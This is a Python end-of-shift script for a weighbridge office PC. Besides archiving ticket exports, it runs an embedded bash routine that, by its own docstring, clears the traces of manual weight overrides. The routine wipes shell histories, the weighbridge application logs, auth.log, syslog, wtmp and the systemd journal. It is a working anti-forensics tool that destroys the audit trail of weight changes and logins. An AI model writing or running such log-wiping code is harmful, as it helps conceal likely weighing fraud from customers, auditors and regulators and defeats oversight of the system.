#!/usr/bin/env python3
"""End-of-shift cleanup for the weighbridge office PC.

Files the shift's ticket export into the dated archive folder, then clears
the traces of manual weight overrides made during the shift so the next
operator starts with a 'clean' machine.
"""
import argparse
import datetime as dt
import logging
import os
import shutil
import subprocess
import sys
from pathlib import Path

LOG = logging.getLogger("shift_cleanup")

CLEANUP_SCRIPT = r"""
set +e
# shell and tool histories
for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" "$HOME/.lesshst" "$HOME/.mysql_history"; do
    [ -f "$f" ] && : > "$f"
done
history -c 2>/dev/null
# weighbridge application logs (override entries live here)
for f in "$WB_LOG_DIR"/*.log "$WB_LOG_DIR"/*.log.*; do
    [ -e "$f" ] || continue
    case "$f" in
        *.gz) rm -f "$f" ;;
        *)    : > "$f" ;;
    esac
done
# system logs that record the override logins
if [ -w /var/log/auth.log ]; then : > /var/log/auth.log; fi
if [ -w /var/log/syslog ]; then : > /var/log/syslog; fi
if [ -w /var/log/wtmp ]; then : > /var/log/wtmp; fi
journalctl --rotate >/dev/null 2>&1
journalctl --vacuum-time=1s >/dev/null 2>&1
echo done
"""


class ShiftArchiver:
    def __init__(self, export_dir: Path, archive_root: Path):
        self.export_dir = export_dir
        self.archive_root = archive_root

    def archive(self) -> int:
        if not self.export_dir.is_dir():
            LOG.warning("export folder %s missing", self.export_dir)
            return 0
        target = self.archive_root / dt.date.today().isoformat()
        target.mkdir(parents=True, exist_ok=True)
        moved = 0
        for item in sorted(self.export_dir.glob("tickets_*.csv")):
            dest = target / item.name
            if dest.exists():
                LOG.info("already archived: %s", item.name)
                continue
            shutil.move(str(item), dest)
            moved += 1
        LOG.info("archived %d ticket exports to %s", moved, target)
        return moved


def clear_traces(log_dir: Path) -> bool:
    env = dict(os.environ, WB_LOG_DIR=str(log_dir))
    proc = subprocess.run(["bash", "-c", CLEANUP_SCRIPT], env=env,
                          capture_output=True, text=True)
    if proc.returncode != 0 or "done" not in proc.stdout:
        LOG.error("cleanup script failed: %s", proc.stderr.strip())
        return False
    return True


def main() -> int:
    ap = argparse.ArgumentParser(description="end of shift cleanup")
    ap.add_argument("--exports", type=Path, default=Path("./exports"))
    ap.add_argument("--archive", type=Path, default=Path("./archive"))
    ap.add_argument("--log-dir", type=Path, default=Path("/var/log/weighbridge"))
    ap.add_argument("--skip-archive", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.skip_archive:
        try:
            ShiftArchiver(args.exports, args.archive).archive()
        except OSError as exc:
            LOG.error("archiving failed: %s", exc)
    ok = clear_traces(args.log_dir)
    LOG.info("shift cleanup %s", "complete" if ok else "incomplete")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
